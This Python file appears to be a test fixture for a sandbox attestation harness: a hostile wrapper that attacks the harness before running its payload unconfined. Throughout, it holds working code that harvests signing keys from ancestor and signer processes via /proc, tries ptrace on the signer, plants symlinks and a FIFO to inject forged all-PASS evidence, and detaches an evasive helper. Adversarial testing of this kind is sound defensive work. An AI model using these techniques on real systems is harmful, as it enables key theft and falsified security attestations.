#!/usr/bin/env python3
"""A hostile "sandbox wrapper" (issue 12): it attacks the harness, then runs its payload bare.

The harness starts it as it starts any command wrapper (sandbox_attest/backends/command/), as the
payload user. Before it runs the payload it tries what issue 12 listed, as live attempts:

  a. walk its ancestors (the ppid chain from /proc/self/stat up to pid 1) and, for each, read
     /proc/<pid>/environ (looking for $SANDBOX_ATTEST_SIGNING_KEY or any PEM private key),
     /proc/<pid>/cmdline and /proc/<pid>/cwd to find `--key PATH` and read that file;
  b. find the report directory (`--out DIR` in an ancestor's cmdline) and plant a symlink to
     a FIFO at `evidence.json.tmp`, symlinks at every file a reader reads, and a file in
     allure-results/; then leave a detached helper (double fork, setsid, exec with a fresh
     environment so the harness's leftover sweep cannot find it by its run tag) that keeps
     retrying those plants every 50 ms until $ATTACKER_HELPER_SECONDS (default 20) pass or
     the file `stop` appears in the drop dir, and that writes a forged all-PASS evidence
     through any plant that lands;
  c. find the signer (a process whose cmdline holds `sandbox_attest.attest.signer`) and try to read
     its environ and cmdline, open its mem, and PTRACE_SEIZE it;
  d. exec the payload with no sandbox at all.

Every result goes, as one JSON line with the errno's name, into `attacks.jsonl` in the drop
dir named by $ATTACKER_DROP; anything that looks like key material is copied beside it. The
script never writes to stdout before the exec: the payload's start marker and its JSON line
must reach the harness unchanged, so that the cells are judged (and FAIL) instead of ERROR.

Stdlib only, and every attack is wrapped so that a surprise in one never stops the payload.
Usage: wrapper.py PAYLOAD_ARGV...   (the helper re-execs it as: wrapper.py --helper DIR...)
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import re
import sys
import time
from pathlib import Path
from typing import NoReturn

DROP_ENV = "ATTACKER_DROP"
REPORT_DIR_ENV = "ATTACKER_REPORT_DIR"
KEY_FILE_ENV = "ATTACKER_KEY_FILE"
SECONDS_ENV = "ATTACKER_HELPER_SECONDS"
KEY_ENV = "SANDBOX_ATTEST_SIGNING_KEY"
RECORDS = "attacks.jsonl"
STOP = "stop"
HELPER_LOCK = "helper.lock"
FIFO = "evidence.fifo"
# Written into every forged file, so a test can look for it anywhere in the report.
FORGED_MARK = "FORGED-BY-ATTACKER-WRAPPER"
PEM_RE = re.compile(
    rb"-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----.*?-----END [A-Z0-9 ]*PRIVATE KEY-----", re.DOTALL
)
KEY_FLAGS = ("--key", "--sandbox-attest-key")
OUT_FLAGS = ("--out", "--sandbox-attest-report-dir")
# Every file a person reads in a report (sandbox_attest/attest/subjects.py), plus the temp name the
# old writer used: the plants aim at each.
LINK_PLANTS = ("evidence.json.tmp", "evidence.json", "junit.xml", "report.html", "summary.md")
ALLURE_PLANT = "allure-results/forged-result.json"
PTRACE_SEIZE = 0x4206
PTRACE_DETACH = 17
PLANT_PERIOD_S = 0.05


def drop_dir() -> Path:
    """The directory the attack records go to (the spec's [env] set gives it)."""
    return Path(os.environ.get(DROP_ENV, "/nonexistent-attacker-drop"))


def record(attack: str, target: str, **fields: object) -> None:
    """Append one result line; O_APPEND keeps lines whole across concurrent cells."""
    line = {"attack": attack, "target": target, "pid": os.getpid(), "time": time.time()}
    line.update(fields)
    data = (json.dumps(line, sort_keys=True) + "\n").encode()
    with contextlib.suppress(OSError):
        fd = os.open(drop_dir() / RECORDS, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o666)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)


def errno_name(exc: OSError) -> str:
    """`EACCES`, `EPERM`, ... (the name, as the probes record it)."""
    return errno.errorcode.get(exc.errno or 0, str(exc.errno))


def keep_loot(name: str, data: bytes) -> None:
    """Copy key material into the drop dir: the proof an attack worked."""
    with contextlib.suppress(OSError):
        (drop_dir() / name).write_bytes(data)


def try_read(attack: str, target: str, path: str, limit: int = 1 << 20) -> bytes | None:
    """Read a file, record ok or the errno, and keep any PEM private key found in it."""
    try:
        with open(path, "rb") as handle:  # noqa: PTH123  (any path, /proc/<pid>/cwd/x too)
            data = handle.read(limit)
    except OSError as exc:
        record(attack, target, path=path, ok=False, errno=errno_name(exc))
        return None
    found = PEM_RE.findall(data)
    record(attack, target, path=path, ok=True, bytes=len(data), pem=bool(found))
    for i, pem in enumerate(found):
        keep_loot(f"loot-{os.getpid()}-{attack}-{i}.pem", pem)
    return data


# --- a. ancestors ------------------------------------------------------------------------


def ppid_of(pid: str) -> int | None:
    """The parent pid from /proc/<pid>/stat (the name may hold spaces and parentheses)."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    return int(stat.rsplit(")", 1)[1].split()[1])


def ancestors() -> list[int]:
    """The ppid chain of this process, nearest first, up to and including pid 1."""
    chain: list[int] = []
    pid = os.getpid()
    while pid > 1:
        parent = ppid_of(str(pid))
        if parent is None or parent in chain or parent == 0:
            break
        chain.append(parent)
        pid = parent
    return chain


def flag_values(argv: list[str], flags: tuple[str, ...]) -> list[str]:
    """Values of `--flag VALUE` and `--flag=VALUE` in an argv."""
    values = []
    for i, arg in enumerate(argv):
        for flag in flags:
            if arg == flag and i + 1 < len(argv):
                values.append(argv[i + 1])
            elif arg.startswith(flag + "="):
                values.append(arg.split("=", 1)[1])
    return values


def owner(pid: int) -> int | None:
    """The uid that owns /proc/<pid> (the process's euid for a dumpable one, else root)."""
    try:
        return os.stat(f"/proc/{pid}").st_uid  # noqa: PTH116  (a plain stat of a proc dir)
    except OSError:
        return None


def attack_ancestors() -> list[str]:
    """Attack a: environ, cmdline, cwd and `--key` files of every ancestor; the report dirs."""
    outs: list[str] = []
    mine = os.environ.get(KEY_ENV)
    record("self-environ", "self", ok=mine is None, has_key_var=mine is not None)
    if mine is not None:
        keep_loot("loot-self-environ.pem", mine.encode())
    for pid in ancestors():
        who = f"ancestor:{pid}"
        uid = owner(pid)
        environ = try_read("ancestor-environ", who, f"/proc/{pid}/environ")
        if environ is not None:
            for entry in environ.split(b"\0"):
                if entry.startswith(KEY_ENV.encode() + b"="):
                    keep_loot(f"loot-{pid}-env.pem", entry.split(b"=", 1)[1])
        try:
            cwd = str(Path(f"/proc/{pid}/cwd").readlink())
        except OSError as exc:
            cwd = None
            record("ancestor-cwd", who, uid=uid, ok=False, errno=errno_name(exc))
        else:
            record("ancestor-cwd", who, uid=uid, ok=True, cwd=cwd)
        cmdline = try_read("ancestor-cmdline", who, f"/proc/{pid}/cmdline")
        argv = [a.decode("utf-8", "replace") for a in (cmdline or b"").split(b"\0") if a]
        keys, outs_here = flag_values(argv, KEY_FLAGS), flag_values(argv, OUT_FLAGS)
        # The flags found, not the whole argv: an unrelated ancestor's argv is none of ours.
        record("ancestor-argv", who, uid=uid, argv0=argv[:1], keys=keys, outs=outs_here)
        # A relative path resolves against the ancestor's cwd: by its name if readlink
        # worked, else through the /proc/<pid>/cwd link itself.
        base = Path(cwd or f"/proc/{pid}/cwd")
        for key in keys:
            try_read("key-file", who, str(base / key))
        outs += [str(base / out) for out in outs_here]
    # The harness shows a neutral title (sandbox_attest/host/proctitle.py), so `--out` is no longer
    # in its cmdline; the test hands the path over as the worst case, an attacker who guessed.
    told_key = os.environ.get(KEY_FILE_ENV)
    if told_key:
        try_read("key-file", "told", told_key)
    told = os.environ.get(REPORT_DIR_ENV)
    record("report-dirs", "self", found=sorted(set(outs)), told=told)
    return sorted({*outs, *([told] if told else [])})


# --- b. plants ---------------------------------------------------------------------------


def forged_evidence() -> bytes:
    """An all-PASS evidence.json as a forger would write it."""
    forged = {
        "schema": "sandbox-attest/evidence/v1",
        "complete": True,
        "forged": FORGED_MARK,
        "cells": [{"cell_id": "attacker-anything", "verdict": "PASS", "required": True}],
    }
    return json.dumps(forged).encode()


def bait() -> dict[str, str]:
    """The FIFO and the forged files the plants point at, made once in the drop dir."""
    drop = drop_dir()
    fifo = drop / FIFO
    with contextlib.suppress(FileExistsError, OSError):
        os.mkfifo(fifo, 0o666)
    targets = {"evidence.json.tmp": str(fifo)}
    for name in LINK_PLANTS[1:]:
        path = drop / f"forged-{name}"
        with contextlib.suppress(OSError):
            path.write_bytes(forged_evidence() if name == "evidence.json" else FORGED_MARK.encode())
        targets[name] = str(path)
    return targets


def plant_once(out: str, targets: dict[str, str]) -> dict[str, str]:
    """One round of plants into `out`: each target -> "ok" or its errno name."""
    results: dict[str, str] = {}
    for name in LINK_PLANTS:
        try:
            (Path(out) / name).symlink_to(targets[name])
        except OSError as exc:
            results[name] = errno_name(exc)
        else:
            results[name] = "ok"
    try:
        fd = os.open(
            Path(out) / ALLURE_PLANT,
            os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW,
            0o644,
        )
    except OSError as exc:
        results[ALLURE_PLANT] = errno_name(exc)
    else:
        with os.fdopen(fd, "wb") as handle:
            handle.write(forged_evidence())
        results[ALLURE_PLANT] = "ok"
    return results


def attack_report_dirs(outs: list[str]) -> None:
    """Attack b: plant once now, then leave the helper to keep trying through the signing."""
    targets = bait()
    for out in outs:
        try:
            listing = sorted(p.name for p in Path(out).iterdir())
        except OSError as exc:
            record("report-list", out, ok=False, errno=errno_name(exc))
        else:
            record("report-list", out, ok=True, names=listing)
        for name, result in plant_once(out, targets).items():
            failed = "" if result == "ok" else result
            record("plant", name, out=out, ok=result == "ok", errno=failed)
    if outs:
        start_helper(outs)


def start_helper(outs: list[str]) -> None:
    """Double fork a detached helper (one per run: the first cell to get the lock starts it)."""
    try:
        lock = os.open(drop_dir() / HELPER_LOCK, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return  # another cell's wrapper started it already
    os.close(lock)
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        # The helper keeps none of the wrapper's descriptors (a held stdout pipe would stall
        # the harness's reader), and a fresh environment drops the harness's run tag.
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        env = {
            DROP_ENV: str(drop_dir()),
            SECONDS_ENV: os.environ.get(SECONDS_ENV, "20"),
            "PATH": "/usr/bin:/bin",
        }
        script = str(Path(__file__).resolve())
        # Our own interpreter and script, exec'd directly: there is no shell to want.
        os.execve(sys.executable, [sys.executable, script, "--helper", *outs], env)  # noqa: S606
    finally:
        os._exit(1)


def helper(outs: list[str]) -> int:
    """The detached helper: retry every plant every 50 ms until the stop file or the bound."""
    seconds = float(os.environ.get(SECONDS_ENV, "20"))
    targets = bait()
    started = time.time()
    deadline = time.monotonic() + min(seconds, 600.0)
    record("helper-start", "self", outs=outs, bound_s=seconds)
    tally: dict[str, dict[str, int]] = {}
    # Always serving: the first plant may have landed in the wrapper itself, before this ran.
    fifo = FifoServer()
    rounds = 0
    reason = "deadline"
    last_note = time.monotonic()
    while time.monotonic() < deadline:
        if (drop_dir() / STOP).exists():
            reason = "stop-file"
            break
        for out in outs:
            for name, result in plant_once(out, targets).items():
                counts = tally.setdefault(name, {})
                counts[result] = counts.get(result, 0) + 1
                if result == "ok":
                    record("helper-plant-landed", name, out=out)
        fifo.poll()
        rounds += 1
        if time.monotonic() - last_note > 1.0:
            record("helper-progress", "self", rounds=rounds, results=tally)
            last_note = time.monotonic()
        time.sleep(PLANT_PERIOD_S)
    record(
        "helper-done",
        "self",
        reason=reason,
        rounds=rounds,
        results=tally,
        first=started,
        last=time.time(),
    )
    return 0


class FifoServer:
    """The original attack's second half, once a FIFO plant has landed.

    The harness (before the fix) wrote evidence through `evidence.json.tmp` into the FIFO,
    renamed the link over `evidence.json`, and then re-read it to sign: so first read what it
    writes (keep a reader open, or its open() blocks forever), then, once it has closed its
    end, feed any reader that comes the forged all-PASS evidence.
    """

    def __init__(self) -> None:
        """Nothing is open until a plant lands."""
        self.reader: int | None = None
        self.captured = bytearray()
        self.served = 0

    def poll(self) -> None:
        """One step: drain what the harness wrote, or serve the forgery to its next read.

        Harmless where nothing landed: a read of a FIFO nobody writes is an empty EOF, and
        the forgery is offered only after the harness has written something through it.
        """
        fifo = drop_dir() / FIFO
        if self.reader is None and not self.captured:
            with contextlib.suppress(OSError):
                self.reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        if self.reader is not None:
            try:
                chunk = os.read(self.reader, 1 << 20)
            except BlockingIOError:
                return  # the harness holds its end open but has not written yet
            if chunk:
                self.captured += chunk
                keep_loot("captured-through-fifo.bin", bytes(self.captured))
                return
            if not self.captured:
                return  # no writer yet
            os.close(self.reader)  # the harness closed its end: its write is complete
            self.reader = None
        try:
            writer = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            return  # ENXIO: nobody reads the FIFO right now
        with contextlib.suppress(OSError):
            os.write(writer, forged_evidence())
            self.served += 1
            record("helper-fifo-served", FIFO, times=self.served)
        os.close(writer)


# --- c. the signer -----------------------------------------------------------------------


def signer_pids() -> list[int]:
    """Every process whose cmdline holds `sandbox_attest.attest.signer` (other runs' too)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        # By its module, or by the neutral title it shows once up (`PYTHON worker.py`).
        words = cmdline.split(b"\0")
        if b"sandbox_attest.attest.signer" in cmdline or words[1:2] == [b"worker.py"]:
            found.append(int(entry.name))
    return found


def ptrace_seize(pid: int) -> str:
    """PTRACE_SEIZE `pid`: "ok" (and detach at once) or the errno name."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        libc.ptrace(PTRACE_DETACH, pid, None, None)
        return "ok"
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def attack_signers(chain: list[int]) -> None:
    """Attack c: the signer's environ, cmdline, mem (open only), maps, and ptrace."""
    pids = signer_pids()
    record("signers", "self", found=pids)
    for pid in pids:
        who = f"signer:{pid}"
        parent = ppid_of(str(pid))
        record("signer-found", who, uid=owner(pid), ppid=parent, ours=parent in chain)
        environ = try_read("signer-environ", who, f"/proc/{pid}/environ")
        if environ is not None and KEY_ENV.encode() in environ:
            keep_loot(f"loot-{pid}-signer-env.pem", environ)
        try_read("signer-cmdline", who, f"/proc/{pid}/cmdline")
        try_read("signer-maps", who, f"/proc/{pid}/maps", limit=4096)
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError as exc:
            record("signer-mem", who, ok=False, errno=errno_name(exc))
        else:
            os.close(fd)
            record("signer-mem", who, ok=True)
        result = ptrace_seize(pid)
        record("signer-ptrace", who, ok=result == "ok", errno="" if result == "ok" else result)


def main(argv: list[str]) -> int:
    """Attack, record, then exec the payload unconfined (attack d)."""
    if argv[:1] == ["--helper"]:
        return helper(argv[1:])
    if not argv:
        sys.stderr.write("usage: wrapper.py PAYLOAD_ARGV...\n")
        return 2
    chain = ancestors()
    record("ancestors", "self", chain=chain, uid=os.getuid(), euid=os.geteuid())
    try:
        outs = attack_ancestors()
    except Exception as exc:  # a surprise must not keep the payload from running
        record("error", "ancestors", error=repr(exc))
        outs = []
    try:
        attack_report_dirs(outs)
    except Exception as exc:
        record("error", "plants", error=repr(exc))
    try:
        attack_signers(chain)
    except Exception as exc:
        record("error", "signer", error=repr(exc))
    record("exec", "payload", argv=argv)
    return run_payload(argv)


def run_payload(argv: list[str]) -> NoReturn:
    """Attack d: become the payload, with no sandbox at all."""
    # The payload argv is the harness's own probe command: exec it as is, with no shell.
    os.execvp(argv[0], argv)  # noqa: S606


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
